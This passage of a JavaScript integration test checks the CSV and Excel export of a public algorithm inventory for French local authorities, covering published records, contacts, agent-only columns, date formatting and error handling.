  const pub = (await get(`/api/v1/usecases?owner=${BORDEAUX_METROPOLE.key}&per_page=100`)).json.data.filter((x) => x.state === 'published');
  assert.deepEqual(body.map((x) => Number(x[col('fiche_id')])).sort((a, b) => a - b), pub.map((x) => x.id).sort((a, b) => a - b));
  // the public contact: the record's information page, else its IA·T page
  for (const row of body) {
    const rec = (await get(`/api/v1/usecases/${row[col('fiche_id')]}`)).json.data;
    assert.equal(row[col('contact')], rec.info_url || row[col('fiche_url')], `contact of ${rec.id}`);
    assert.equal(row[col('nom_algorithme')].replace(/^'/, ''), rec.algorithm_name || rec.title);
  }
  // agents: the operations and the service's contact
  const a = await get(INV_CSV, env.tokens.agentLyon);
  const ah = csvRows(a.text)[0];
  assert.ok(ah.includes('operations') && ah.includes('contact_service'));
  const arow = csvRows(a.text).find((x) => x[ah.indexOf('fiche_id')] === String(R.algo.id));
  assert.equal(arow[ah.indexOf('operations')], OPS);
  assert.equal(arow[ah.indexOf('contact_service')], CONTACT);
  // French Excel flavour: BOM, ';', dates JJ/MM/AAAA, same cells otherwise
  const x = await get(`${INV_CSV}?format=excel`);
  assert.equal(x.status, 200);
  assert.ok(x.text.startsWith('\ufeff'));
  const xrows = assertCsvInert(x.text, ';');
  assert.deepEqual(xrows[0], head);
  const xa = xrows.find((row) => row[col('fiche_id')] === String(R.algo.id));
  assert.match(xa[col('mise_a_jour')], /^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}:\d{2}$/);
  assert.deepEqual(xa.filter((_, i) => i !== col('mise_a_jour')), algo.filter((_, i) => i !== col('mise_a_jour')));
  // bad input
  assertApiError(await get(`${INV_CSV}?format=xml`), 400, 'request.invalid_parameter', 'format');
  assertApiError(await get('/api/v1/organisations/commune-99999/algorithm-inventory.csv'), 404, 'resource.not_found');
  // any accepted key (SIREN) gives the same file
  const bySiren = await get(`/api/v1/organisations/${BORDEAUX_METROPOLE.siren}/algorithm-inventory.csv`);
  assert.equal(bySiren.text, r.text);
});
